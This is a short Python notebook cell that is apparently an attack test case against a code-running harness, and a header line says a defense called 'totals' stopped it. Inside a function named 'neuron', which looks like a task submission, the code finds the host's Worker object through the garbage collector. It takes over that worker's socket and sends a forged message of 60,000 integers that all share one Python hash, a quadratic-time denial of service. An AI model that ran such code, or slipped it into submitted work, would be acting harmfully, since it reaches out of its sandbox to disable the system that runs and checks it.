# A dict of numbers that all have the same hash: it takes time that grows with the square.
# stopped by: totals
# %% append neuron
import gc
import json
import struct

worker = next(o for o in gc.get_objects() if type(o).__name__ == "Worker")


def send(head, body=b""):
    worker.sock.sendall(struct.pack(">QI", len(head) + len(body) + 4, len(head)) + head + body)


def neuron(x_patch, w, b):

    prime = 2**61 - 1
    pairs = b",".join(b"[%d,0]" % (k * prime) for k in range(60_000))
    send(b'[{"value": {"d": [' + pairs + b']}}, []]')


print("armed")
